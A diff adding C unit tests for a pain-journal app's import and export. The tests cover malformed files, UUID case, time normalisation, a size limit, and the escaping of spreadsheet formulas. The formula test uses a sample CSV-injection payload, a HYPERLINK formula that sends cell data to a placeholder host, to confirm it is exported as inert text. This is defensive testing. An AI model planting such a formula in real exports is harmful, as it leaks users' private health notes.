@@ -1,7 +1,9 @@
 /* SPDX-License-Identifier: GPL-3.0-or-later */
 #include "config.h"
 
+#include <fcntl.h>
 #include <string.h>
+#include <unistd.h>
 
 #include "limber-journal.h"
 #include "limber-test-util.h"
@@ -624,6 +626,57 @@ static const BadFile bad_files[] = {
     JSON_BREAK (UUID_A, "micro") ",\n" JSON_BREAK (UUID_A, "rest") "\n"
     "  ],\n  \"stretch_sessions\": []\n}\n",
     { "line 7", "uuid", "line 6" } },
+  /* Times export could not write, or that a journal should not hold. */
+  { "a year before 1900", LIMBER_JOURNAL_FORMAT_CSV,
+    CSV_HEADER UUID_A ",2026-11-01,2,,,,,,,0625-02-02T08:00:00+01:00,2026-11-01T08:00:00+01:00\r\n",
+    { "line 2", "created", "1900 to 2199" } },
+  { "an update at the end of time", LIMBER_JOURNAL_FORMAT_JSON,
+    JSON_START "  \"pain_entries\": [\n"
+    "    {\"uuid\": \"" UUID_A "\", \"day\": \"2026-11-01\", \"average\": 2, \"worst\": null, "
+    "\"activity\": null, \"enjoyment\": null, \"regions\": [], \"red_flags\": [], \"note\": null, "
+    "\"created\": \"2026-11-01T08:00:00+01:00\", \"updated\": \"9999-12-31T23:00:00-12:00\"}\n"
+    "  ],\n  \"break_events\": [],\n  \"stretch_sessions\": []\n}\n",
+    { "line 5", "updated", "1900 to 2199" } },
+  { "an offset of more than a day", LIMBER_JOURNAL_FORMAT_CSV,
+    CSV_HEADER UUID_A ",2026-11-01,2,,,,,,,2026-11-01T08:00:00-24:30,2026-11-01T08:00:00+01:00\r\n",
+    { "line 2", "created", "18 hours" } },
+  { "a break in 2099", LIMBER_JOURNAL_FORMAT_JSON,
+    JSON_START "  \"pain_entries\": [],\n  \"break_events\": [\n"
+    "    {\"uuid\": \"" UUID_A "\", \"day\": \"2099-11-01\", \"kind\": \"micro\", \"outcome\": \"taken\", "
+    "\"due\": \"2099-11-01T10:00:00+01:00\", \"end\": \"2099-11-01T10:00:20+01:00\", \"duration_s\": 20}\n"
+    "  ],\n  \"stretch_sessions\": []\n}\n",
+    { "line 6", "day", "future" } },
+  { "a break due the day after tomorrow", LIMBER_JOURNAL_FORMAT_JSON,
+    JSON_START "  \"pain_entries\": [],\n  \"break_events\": [\n"
+    "    {\"uuid\": \"" UUID_A "\", \"day\": \"2026-11-25\", \"kind\": \"micro\", \"outcome\": \"taken\", "
+    "\"due\": \"2026-11-27T10:00:00+01:00\", \"end\": \"2026-11-27T10:00:20+01:00\", \"duration_s\": 20}\n"
+    "  ],\n  \"stretch_sessions\": []\n}\n",
+    { "line 6", "due", "future" } },
+  /* Numbers beyond 64 bits, which json-glib read as -1. */
+  { "a version of 1e20", LIMBER_JOURNAL_FORMAT_JSON,
+    "{\n  \"format\": \"limber-journal\",\n  \"version\": 1e20\n}\n",
+    { "line 1", "version", "whole number" } },
+  { "a score of 2^70", LIMBER_JOURNAL_FORMAT_JSON,
+    JSON_START "  \"pain_entries\": [\n" JSON_PAIN (UUID_A, "2026-11-01", "1180591620717411303424", "3") "\n"
+    "  ],\n  \"break_events\": [],\n  \"stretch_sessions\": []\n}\n",
+    { "line 5", "average", "whole number" } },
+  { "a score of 2^70 in CSV", LIMBER_JOURNAL_FORMAT_CSV,
+    CSV_HEADER ROW (UUID_A, "2026-11-01", "1180591620717411303424", "", ""),
+    { "line 2", "average", "1180591620717411303424" } },
+  { "a list given twice", LIMBER_JOURNAL_FORMAT_JSON,
+    JSON_START "  \"pain_entries\": [],\n  \"pain_entries\": [],\n"
+    "  \"break_events\": [],\n  \"stretch_sessions\": []\n}\n",
+    { "line 5", "pain_entries", "twice" } },
+  { "a note holding U+0000", LIMBER_JOURNAL_FORMAT_JSON,
+    JSON_START "  \"pain_entries\": [\n"
+    "    {\"uuid\": \"" UUID_A "\", \"day\": \"2026-11-01\", \"average\": 2, \"worst\": null, "
+    "\"activity\": null, \"enjoyment\": null, \"regions\": [], \"red_flags\": [], \"note\": \"a\\u0000b\", "
+    "\"created\": \"2026-11-01T08:00:00+01:00\", \"updated\": \"2026-11-01T08:00:00+01:00\"}\n"
+    "  ],\n  \"break_events\": [],\n  \"stretch_sessions\": []\n}\n",
+    { "line 5", "JSON", "U+0000" } },
+  { "a number with a leading zero", LIMBER_JOURNAL_FORMAT_JSON,
+    "{\n  \"format\": \"limber-journal\",\n  \"version\": 01\n}\n",
+    { "line 3", "JSON", "0" } },
   /* Everything before the last row is fine and new: none of it may stay. */
   { "a bad stretch session last", LIMBER_JOURNAL_FORMAT_JSON,
     JSON_START "  \"pain_entries\": [\n" JSON_PAIN (UUID_A, "2026-11-01", "2", "3") "\n"
@@ -717,6 +770,148 @@ test_bad_last_row_stores_nothing (Fixture       *fixture,
     }
 }
 
+/* The same record written with capitals is the same record, stored and
+ * exported in lower case. */
+static void
+test_uuid_case (Fixture       *fixture,
+                gconstpointer  user_data)
+{
+  const char *upper = JSON_START "  \"pain_entries\": [\n"
+    JSON_PAIN ("3F2B8C1E-4D5A-4B6C-9D7E-8F9A0B1C2D3E", "2026-11-01", "2", "3") "\n"
+    "  ],\n  \"break_events\": [\n" JSON_BREAK ("7A1C2D3E-5F60-4718-89AB-CDEF01234567", "micro") "\n"
+    "  ],\n  \"stretch_sessions\": []\n}\n";
+  const char *lower = JSON_START "  \"pain_entries\": [\n" JSON_PAIN (UUID_A, "2026-11-01", "2", "3") "\n"
+    "  ],\n  \"break_events\": [\n" JSON_BREAK (UUID_B, "micro") "\n"
+    "  ],\n  \"stretch_sessions\": []\n}\n";
+  g_autoptr (GError) error = NULL;
+  g_autofree char *exported = NULL;
+  LimberImportCounts counts;
+
+  g_assert_true (import_text (fixture->other, LIMBER_JOURNAL_FORMAT_JSON, upper, fixture->now, &counts, &error));
+  g_assert_no_error (error);
+  assert_counts (&counts, 2, 0, 0);
+  g_assert_true (import_text (fixture->other, LIMBER_JOURNAL_FORMAT_JSON, lower, fixture->now, &counts, &error));
+  g_assert_no_error (error);
+  assert_counts (&counts, 0, 0, 2);
+  assert_rows (fixture->other, 1, 1, 0);
+
+  exported = export_text (fixture->other, LIMBER_JOURNAL_FORMAT_JSON);
+  g_assert_nonnull (strstr (exported, UUID_A));
+  g_assert_nonnull (strstr (exported, UUID_B));
+}
+
+/* However a time was written, it is stored as its moment and offset and
+ * written back one way. */
+static void
+test_time_normalised (Fixture       *fixture,
+                      gconstpointer  user_data)
+{
+  const char *csv = CSV_HEADER
+    UUID_A ",2026-11-01,2,,,,,,,2026-11-01T07:00:00.750Z,2026-11-01T08:00:00+01:00\r\n";
+  g_autoptr (GError) error = NULL;
+  g_autofree char *exported = NULL;
+  LimberImportCounts counts;
+
+  g_assert_true (import_text (fixture->other, LIMBER_JOURNAL_FORMAT_CSV, csv, fixture->now, &counts, &error));
+  g_assert_no_error (error);
+  exported = export_text (fixture->other, LIMBER_JOURNAL_FORMAT_CSV);
+  g_assert_nonnull (strstr (exported, ",2026-11-01T07:00:00+00:00,2026-11-01T08:00:00+01:00\r\n"));
+}
+
+/* Notes a spreadsheet would run as formulas go out as text after a “'”,
+ * and come back exactly as they were. */
+static void
+test_csv_formulas (Fixture       *fixture,
+                   gconstpointer  user_data)
+{
+  static const char *notes[] = {
+    "=HYPERLINK(\"http://example.invalid/?d=\"&A1,\"Click\")",
+    "+1 since Monday", "-2 after stretching", "@physio", "\tindented", "\rreturn",
+    "'=already quoted", "''+twice", "'just a quote", "plain = fine", "",
+  };
+  g_autofree char *csv = NULL;
+  g_autoptr (GError) error = NULL;
+  LimberImportCounts counts;
+
+  for (guint i = 0; i < G_N_ELEMENTS (notes); i++)
+    {
+      g_autofree char *day = g_strdup_printf ("2026-11-%02u", i + 1);
+      g_autoptr (LimberPainEntry) entry = limber_pain_entry_new (day);
+
+      entry->average = 2;
+      limber_pain_entry_set_note (entry, notes[i]);
+      save_entry (fixture->journal, entry, fixture->now);
+    }
+
+  csv = export_text (fixture->journal, LIMBER_JOURNAL_FORMAT_CSV);
+  g_test_message ("%s", csv);
+  g_assert_nonnull (strstr (csv, ",\"'=HYPERLINK("));
+  g_assert_nonnull (strstr (csv, ",'+1 since Monday,"));
+  g_assert_nonnull (strstr (csv, ",'-2 after stretching,"));
+  g_assert_nonnull (strstr (csv, ",'@physio,"));
+  g_assert_nonnull (strstr (csv, ",'\tindented,"));
+  g_assert_nonnull (strstr (csv, ",\"'\rreturn\","));
+  g_assert_nonnull (strstr (csv, ",''=already quoted,"));
+  g_assert_nonnull (strstr (csv, ",'''+twice,"));
+  g_assert_nonnull (strstr (csv, ",'just a quote,"));
+  g_assert_nonnull (strstr (csv, ",plain = fine,"));
+  /* No cell starts with what a spreadsheet would run. */
+  for (const char *c = "=+-@\t"; *c != '\0'; c++)
+    {
+      char bare[] = { ',', *c, '\0' };
+      char quoted[] = { ',', '"', *c, '\0' };
+
+      g_assert_null (strstr (csv, bare));
+      g_assert_null (strstr (csv, quoted));
+    }
+
+  g_assert_true (import_text (fixture->other, LIMBER_JOURNAL_FORMAT_CSV, csv, fixture->now, &counts, &error));
+  g_assert_no_error (error);
+  for (guint i = 0; i < G_N_ELEMENTS (notes); i++)
+    {
+      g_autofree char *day = g_strdup_printf ("2026-11-%02u", i + 1);
+      g_autoptr (LimberPainEntry) entry = get_entry (fixture->other, day);
+
+      g_assert_cmpstr (entry->note != NULL ? entry->note : "", ==, notes[i]);
+    }
+}
+
+/* A file too large is refused before it is read, naming the file and the
+ * limit; one within it loads whole. */
+static void
+test_import_size_limit (Fixture       *fixture,
+                        gconstpointer  user_data)
+{
+  g_autofree char *big_path = g_build_filename (fixture->dir, "huge.json", NULL);
+  g_autofree char *small_path = g_build_filename (fixture->dir, "small.json", NULL);
+  g_autoptr (GFile) big = g_file_new_for_path (big_path);
+  g_autoptr (GFile) small = g_file_new_for_path (small_path);
+  g_autoptr (GBytes) data = NULL;
+  g_autoptr (GError) error = NULL;
+  int fd;
+
+  /* Sparse: it takes no room on the disk. */
+  fd = open (big_path, O_WRONLY | O_CREAT | O_TRUNC, 0600);
+  g_assert_cmpint (fd, >=, 0);
+  g_assert_cmpint (ftruncate (fd, (off_t) LIMBER_JOURNAL_IMPORT_MAX_BYTES + 1), ==, 0);
+  close (fd);
+
+  data = limber_journal_load_import (big, &error);
+  g_assert_null (data);
+  g_assert_error (error, LIMBER_JOURNAL_ERROR, LIMBER_JOURNAL_ERROR_INVALID_INPUT);
+  g_test_message ("%s", error->message);
+  g_assert_nonnull (strstr (error->message, big_path));
+  g_assert_nonnull (strstr (error->message, "512.0"));
+  g_assert_nonnull (strstr (error->message, "MiB"));
+  g_clear_error (&error);
+
+  g_file_set_contents (small_path, "{}", -1, &error);
+  g_assert_no_error (error);
+  data = limber_journal_load_import (small, &error);
+  g_assert_no_error (error);
+  g_assert_cmpmem (g_bytes_get_data (data, NULL), g_bytes_get_size (data), "{}", 2);
+}
+
 int
 main (int   argc,
       char *argv[])
@@ -732,6 +927,10 @@ main (int   argc,
   ADD ("/journal-transfer/newer-wins", test_newer_wins);
   ADD ("/journal-transfer/bad-files", test_bad_files);
   ADD ("/journal-transfer/bad-last-row-stores-nothing", test_bad_last_row_stores_nothing);
+  ADD ("/journal-transfer/uuid-case", test_uuid_case);
+  ADD ("/journal-transfer/time-normalised", test_time_normalised);
+  ADD ("/journal-transfer/csv/formulas", test_csv_formulas);
+  ADD ("/journal-transfer/import-size-limit", test_import_size_limit);
 #undef ADD
 
   return g_test_run ();
